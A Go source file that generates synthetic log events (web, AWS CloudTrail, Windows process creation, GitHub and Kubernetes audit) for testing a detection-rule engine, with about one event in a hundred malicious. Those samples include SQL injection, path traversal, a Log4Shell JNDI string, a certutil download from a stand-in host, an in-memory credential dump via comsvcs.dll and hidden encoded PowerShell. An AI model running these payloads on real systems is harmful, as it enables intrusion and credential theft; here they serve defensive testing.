package rule

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// made is an event as text: its source and its fields in order.
type made struct {
	source string
	fields []madeField
}

type madeField struct {
	name string
	text string
	num  int64
	kind valueKind
}

func (m *made) text(name, s string) {
	m.fields = append(m.fields, madeField{name: name, text: s, kind: textValue})
}

func (m *made) int(name string, n int64) {
	m.fields = append(m.fields, madeField{name: name, num: n, kind: intValue})
}

// filler puts a made event into an Event; the names are looked up once.
type filler struct {
	source SourceID
	ids    []FieldID
	fields []madeField
}

func (s *Set) filler(m *made) filler {
	f := filler{fields: m.fields}
	f.source, _ = s.schema.Source(m.source)
	for _, x := range m.fields {
		id, ok := s.Field(x.name)
		if !ok {
			id = FieldID(s.nfields) // beyond the event's own: dropped
		}
		f.ids = append(f.ids, id)
	}
	return f
}

func (f *filler) fill(e *Event) {
	e.Reset(f.source)
	for i, x := range f.fields {
		if x.kind == intValue {
			e.SetInt(f.ids[i], x.num)
		} else {
			e.SetText(f.ids[i], x.text)
		}
	}
}

// corpus makes ordinary events of web servers, a cloud's audit log, Windows
// process creation and an application, a quarter each, with one event in a hundred
// of the kind that rules are written for.
func corpus(seed uint64, n int) []made {
	r := rand.New(rand.NewPCG(seed, 1))
	out := make([]made, n)
	for i := range out {
		bad := r.IntN(100) == 0
		switch i % 4 {
		case 0:
			out[i] = webEvent(r, bad)
		case 1:
			out[i] = cloudEvent(r, bad)
		case 2:
			out[i] = processEvent(r, bad)
		default:
			out[i] = appEvent(r, bad)
		}
	}
	return out
}

func oneOf(r *rand.Rand, list ...string) string { return list[r.IntN(len(list))] }

func hexText(r *rand.Rand, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[r.IntN(16)]
	}
	return string(b)
}

func address(r *rand.Rand) string {
	return fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(222), r.IntN(256), r.IntN(256), 1+r.IntN(254))
}

func webEvent(r *rand.Rand, bad bool) made {
	m := made{source: oneOf(r, "category=webserver", "category=webserver", "category=proxy")}
	path := oneOf(r, "/", "/api/v2/users/%s/cards", "/products/%s", "/static/app.%s.js", "/cart", "/support/members/%s", "/images/%s.webp", "/search")
	if strings.Contains(path, "%s") {
		path = fmt.Sprintf(path, hexText(r, 8))
	}
	query := ""
	if r.IntN(2) == 0 {
		query = oneOf(r, "q=winter+coat&page=", "utm_source=mail&utm_campaign=", "lang=ko&sort=price&from=") + hexText(r, 6)
	}
	if bad {
		path = oneOf(r, "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/wp-content/plugins/x/shell.php", "/manager/html", "/../../etc/passwd")
		query = oneOf(r, "id=1'+union+all+select+1,2--", "x=${jndi:ldap://198.51.100.7/a}", "cmd=whoami", query)
	}
	m.text("c-ip", address(r))
	m.text("cs-method", oneOf(r, "GET", "GET", "GET", "POST", "PUT", "HEAD"))
	m.text("cs-uri-stem", path)
	m.text("cs-uri-query", query)
	m.text("cs-uri", path+"?"+query)
	m.text("c-uri", "https://www.shop.example"+path+"?"+query)
	m.text("cs-host", "www.shop.example")
	m.text("cs-referer", oneOf(r, "https://www.shop.example/", "https://search.example/?q=coat", "-"))
	m.text("c-useragent", oneOf(r,
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; SM-S928N) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36",
		"ShopApp/9.4.1 (iOS 17.5; ko_KR)"))
	m.int("sc-status", []int64{200, 200, 200, 200, 304, 302, 404, 500}[r.IntN(8)])
	m.int("sc-bytes", int64(r.IntN(90000)))
	return m
}

func cloudEvent(r *rand.Rand, bad bool) made {
	m := made{source: "product=aws service=cloudtrail"}
	service := oneOf(r, "ec2", "s3", "sts", "iam", "kms", "lambda", "logs")
	name := oneOf(r, "DescribeInstances", "GetObject", "AssumeRole", "ListRoles", "Decrypt", "Invoke", "PutLogEvents", "DescribeLogStreams")
	if bad {
		name = oneOf(r, "StopLogging", "DeleteTrail", "CreateAccessKey", "DisableKey", "PutBucketLogging", "ConsoleLogin", "UpdateLoginProfile")
	}
	m.text("eventVersion", "1.09")
	m.text("eventTime", fmt.Sprintf("2025-06-%02dT%02d:%02d:%02dZ", 1+r.IntN(30), r.IntN(24), r.IntN(60), r.IntN(60)))
	m.text("eventSource", service+".amazonaws.com")
	m.text("eventName", name)
	m.text("awsRegion", oneOf(r, "ap-northeast-2", "us-east-1", "eu-west-1"))
	m.text("sourceIPAddress", address(r))
	m.text("userAgent", oneOf(r, "aws-sdk-go-v2/1.30.1 os/linux lang/go#1.22.5", "Boto3/1.34.131 Python/3.12.4 Linux/6.1", "console.amazonaws.com", "aws-cli/2.17.0 Python/3.11.8"))
	m.text("userIdentity.type", oneOf(r, "AssumedRole", "IAMUser", "AWSService"))
	m.text("userIdentity.arn", "arn:aws:sts::"+fmt.Sprint(100000000000+r.Int64N(1e11))+":assumed-role/app-"+hexText(r, 4)+"/i-"+hexText(r, 17))
	m.text("userIdentity.accessKeyId", "ASIA"+strings.ToUpper(hexText(r, 16)))
	m.text("requestID", hexText(r, 32))
	m.text("eventID", hexText(r, 32))
	m.text("eventType", "AwsApiCall")
	m.text("requestParameters", "{\"bucketName\":\"logs-"+hexText(r, 6)+"\",\"key\":\"2025/06/"+hexText(r, 12)+"\"}")
	if r.IntN(20) == 0 {
		m.text("errorCode", oneOf(r, "AccessDenied", "ThrottlingException", "NoSuchKey"))
	}
	return m
}

func processEvent(r *rand.Rand, bad bool) made {
	m := made{source: "category=process_creation product=windows"}
	programs := [][2]string{
		{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
		{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=ko --num-raster-threads=4 --field-trial-handle=%s`},
		{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`},
		{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c "C:\ProgramData\agent\collect.bat" %s`},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoLogo -File C:\Ops\inventory.ps1 -Id %s`},
		{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "D:\Users\kim\Documents\%s.xlsx"`},
		{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe Install $(Arg0)`},
		{`C:\Program Files\Git\cmd\git.exe`, `git.exe fetch --prune origin %s`},
	}
	p := programs[r.IntN(len(programs))]
	image, line := p[0], p[1]
	if bad {
		image = oneOf(r, `C:\Windows\System32\certutil.exe`, `C:\Windows\System32\rundll32.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
		line = oneOf(r, `certutil.exe -urlcache -split -f http://198.51.100.7/a.exe D:\Users\Public\%s.exe`,
			`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\%s.dmp full`,
			`powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0%s`)
	}
	if strings.Contains(line, "%s") {
		line = fmt.Sprintf(line, hexText(r, 12))
	}
	base := image[strings.LastIndexByte(image, '\\')+1:]
	m.int("EventID", 1)
	m.text("UtcTime", "2025-06-11 09:30:00.123")
	m.text("ProcessGuid", "{"+hexText(r, 32)+"}")
	m.int("ProcessId", int64(r.IntN(30000)))
	m.text("Image", image)
	m.text("OriginalFileName", base)
	m.text("Description", "Host Process for Windows Services")
	m.text("Product", "Microsoft® Windows® Operating System")
	m.text("Company", "Microsoft Corporation")
	m.text("CommandLine", line)
	m.text("CurrentDirectory", oneOf(r, `C:\Windows\system32\`, `D:\Users\kim\`))
	m.text("User", oneOf(r, `NT AUTHORITY\SYSTEM`, `SHOP\kim`, `SHOP\svc-batch`))
	m.text("IntegrityLevel", oneOf(r, "System", "Medium", "High"))
	m.text("Hashes", "MD5="+strings.ToUpper(hexText(r, 32))+",SHA256="+strings.ToUpper(hexText(r, 64))+",IMPHASH="+strings.ToUpper(hexText(r, 32)))
	m.text("ParentImage", oneOf(r, `C:\Windows\System32\services.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\cmd.exe`))
	m.text("ParentCommandLine", oneOf(r, `C:\Windows\system32\services.exe`, `C:\Windows\Explorer.EXE`, `cmd.exe /c start`))
	return m
}

func appEvent(r *rand.Rand, bad bool) made {
	m := made{source: oneOf(r, "category=application product=github service=audit", "product=github service=audit",
		"product=kubernetes service=audit", "category=application product=kubernetes service=audit",
		"category=application product=spring", "category=application product=sql")}
	action := oneOf(r, "git.push", "pull_request.merge", "workflows.completed_workflow_run", "list", "watch", "get")
	if bad {
		action = oneOf(r, "org.disable_two_factor_requirement", "repo.destroy", "create", "delete")
	}
	m.text("action", action)
	m.text("verb", action)
	m.text("actor", oneOf(r, "kim", "lee", "deploy-bot"))
	m.text("org", "shop")
	m.text("repo", "shop/"+hexText(r, 6))
	m.text("objectRef.resource", oneOf(r, "pods", "configmaps", "secrets", "endpoints"))
	m.text("objectRef.namespace", oneOf(r, "kube-system", "shop", "batch"))
	m.text("user.username", oneOf(r, "system:node:n1", "system:serviceaccount:shop:api", "kim"))
	m.text("sourceIPs", address(r))
	m.int("responseStatus.code", 200)
	m.text("message", "order "+hexText(r, 10)+" accepted in "+fmt.Sprint(r.IntN(300))+" ms for account A"+hexText(r, 7))
	return m
}
